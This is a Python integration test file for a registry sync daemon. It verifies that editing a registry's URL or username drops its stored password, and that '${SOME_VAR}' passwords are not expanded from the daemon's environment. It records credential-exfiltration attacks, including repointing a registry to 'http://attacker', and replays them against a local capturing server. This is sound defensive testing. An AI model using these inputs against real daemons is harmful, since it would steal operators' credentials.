"""Credentials stay bound to where the user put them, through the real daemon's API and
regsyncctl, against a real htpasswd registry and a capturing server on another port that plays
the attacker's host.

Each case was an attack that worked: `registries edit harbor --url http://attacker` then
`registries test harbor` sent the stored password to the new host; a password of `${SOME_VAR}`
given through the API was read from the daemon's environment and sent to a host the client chose.
"""

from __future__ import annotations

import base64
import json
from collections.abc import AsyncIterator, Iterator
from pathlib import Path

import grpc
import pytest
import support.ctlrun
import trio
from regsync.daemon.cli.serve import Daemon, ServeOptions
from regsync.daemon.settings import GlobalSettings, RetrySettings
from regsync.proto.regsync.v1 import regsync_pb2 as pb
from regsync.proto.regsync.v1 import regsync_pb2_grpc as rpc
from support.capture import CapturingServer
from support.registry import AuthMode, RegistryFactory, RegistryServer

pytestmark = pytest.mark.integration

FAST = GlobalSettings(retry=RetrySettings(max_attempts=1, initial_interval=0.01,
                                          max_interval=0.05), timeout=10)
DAEMON_SECRET = "daemon-only-secret-6c1f"


class Cli(support.ctlrun.Cli):
    """regsyncctl in-process (as a user types it) and raw stubs, both against one daemon."""

    def __init__(self, address: str) -> None:
        super().__init__(address)
        self.channel = grpc.insecure_channel(address)
        self.registries = rpc.RegistryServiceStub(self.channel)
        self.control = rpc.ControlServiceStub(self.channel)

    async def rpc(self, method: object, request: object) -> object:
        return await trio.to_thread.run_sync(lambda: method(request, timeout=20))  # type: ignore[operator]


@pytest.fixture
def attacker() -> Iterator[CapturingServer]:
    with CapturingServer() as server:
        yield server


@pytest.fixture
async def cli(tmp_path: Path, nursery: trio.Nursery,
              monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[Cli]:
    monkeypatch.setenv("SOME_VAR", DAEMON_SECRET)  # in the daemon's environment
    options = ServeOptions(db_path=str(tmp_path / "db"), listen="127.0.0.1:0", ui_port=None,
                           global_settings=FAST)
    daemon: Daemon = await nursery.start(Daemon(options).run)
    client = Cli(daemon.address)
    yield client
    client.channel.close()
    await daemon.shutdown()


def _basic(user: str, password: str) -> str:
    return "Basic " + base64.b64encode(f"{user}:{password}".encode()).decode()


async def _add_harbor(cli: Cli, registry: RegistryServer) -> str:
    secret = registry.password or ""
    code, _, err = await cli("registries", "add", "harbor", "--url", registry.url,
                             "--username", "alice", "--password-stdin", stdin=secret + "\n")
    assert code == 0, err
    code, out, err = await cli("registries", "test", "harbor")
    assert code == 0, out + err  # the password works where it was given
    return secret


async def test_editing_the_url_drops_the_password_and_the_new_host_gets_none(
    cli: Cli, basic_registry: RegistryServer, attacker: CapturingServer
) -> None:
    secret = await _add_harbor(cli, basic_registry)

    code, out, err = await cli("registries", "edit", "harbor", "--url", attacker.url)
    assert code == 0, err
    assert "password was dropped" in out and "--password-stdin" in out
    code, out, _ = await cli("-o", "json", "registries", "show", "harbor")
    assert json.loads(out)["password_set"] is False

    code, out, err = await cli("registries", "test", "harbor")
    assert code == 1 and "password" in out + err, out + err  # a user without one now
    assert attacker.authorizations() == []
    assert secret not in attacker.everything()

    # a new password in the same call is kept, and goes where it was given
    code, out, err = await cli("registries", "edit", "harbor", "--url", basic_registry.url,
                               "--password-stdin", stdin=secret + "\n")
    assert code == 0 and "dropped" not in out, out + err
    assert (await cli("registries", "test", "harbor"))[0] == 0


async def test_editing_the_user_drops_the_password(
    cli: Cli, basic_registry: RegistryServer
) -> None:
    await _add_harbor(cli, basic_registry)
    code, out, err = await cli("registries", "edit", "harbor", "--username", "mallory")
    assert code == 0 and "password was dropped" in out, out + err
    reply = await cli.rpc(cli.registries.GetRegistry, pb.NameRequest(name="harbor"))
    assert isinstance(reply, pb.Registry) and not reply.password_set
    # an edit that moves nothing keeps it, and says nothing
    await cli("registries", "edit", "harbor", "--username", "alice", "--password-stdin",
              stdin=(basic_registry.password or "") + "\n")
    code, out, err = await cli("registries", "edit", "harbor", "--qps", "5")
    assert code == 0 and "dropped" not in out, out + err
    assert (await cli("registries", "test", "harbor"))[0] == 0


async def test_a_dollar_variable_from_the_api_is_literal_never_the_daemons_environment(
    cli: Cli, attacker: CapturingServer
) -> None:
    code, _, err = await cli("registries", "add", "grab", "--url", attacker.url, "--username",
                             "alice", "--password-stdin", stdin="${SOME_VAR}\n")
    assert code == 0, err
    await cli("registries", "test", "grab")
    assert DAEMON_SECRET not in attacker.everything()
    assert attacker.authorizations() == [_basic("alice", "${SOME_VAR}")]  # what was typed


async def test_apply_refuses_dollar_variables_and_sends_nothing(
    cli: Cli, attacker: CapturingServer, tmp_path: Path
) -> None:
    config = tmp_path / "grab.yaml"
    config.write_text('version: "1.0"\nregistries:\n'
                      f'  grab: {{url: "{attacker.url}", username: alice,'
                      ' password: "${SOME_VAR}"}\n')
    code, out, err = await cli("apply", "-f", str(config))
    assert code == 1 and "${SOME_VAR} is not expanded" in err, out + err
    assert DAEMON_SECRET not in out + err
    code, out, _ = await cli("registries", "list")
    assert "grab" not in out
    assert attacker.requests == []


async def test_apply_moving_a_registry_says_its_password_went(
    cli: Cli, basic_registry: RegistryServer, attacker: CapturingServer, tmp_path: Path
) -> None:
    secret = await _add_harbor(cli, basic_registry)
    config = tmp_path / "moved.yaml"
    config.write_text(f'version: "1.0"\nregistries:\n  harbor: {{url: "{attacker.url}"}}\n')
    code, out, err = await cli("apply", "-f", str(config))
    assert code == 0, err
    assert "registry harbor: its stored password was removed" in out
    reply = await cli.rpc(cli.control.Apply, pb.ApplyRequest(yaml=config.read_text()))
    assert isinstance(reply, pb.ApplyResponse) and list(reply.passwords_dropped) == []  # gone
    await cli("registries", "test", "harbor")
    assert attacker.requests and attacker.authorizations() == []
    assert secret not in attacker.everything()


async def test_a_config_the_daemon_reads_itself_keeps_dollar_variables(
    registry_factory: RegistryFactory, tmp_path: Path, nursery: trio.Nursery,
    monkeypatch: pytest.MonkeyPatch
) -> None:
    """`serve --config` reads `${VAR}` from the daemon's own environment, once: a password that
    holds "$$" or "${" itself is used as it is (it was read twice, and broken)."""
    password = "pa$$w${X}rd-" + "7d2"
    registry = registry_factory(AuthMode.BASIC, username="alice", password=password)
    monkeypatch.setenv("HARBOR_PASSWORD", password)
    config = tmp_path / "sync.yaml"
    config.write_text('version: "1.0"\nregistries:\n'
                      f'  harbor: {{url: "{registry.url}", username: alice,'
                      ' password: "${HARBOR_PASSWORD}"}\n')
    options = ServeOptions(db_path=str(tmp_path / "db"), listen="127.0.0.1:0", ui_port=None,
                           config_path=str(config), global_settings=FAST)
    daemon: Daemon = await nursery.start(Daemon(options).run)
    client = Cli(daemon.address)
    try:
        code, out, err = await client("registries", "test", "harbor")
        assert code == 0, out + err
    finally:
        client.channel.close()
        await daemon.shutdown()
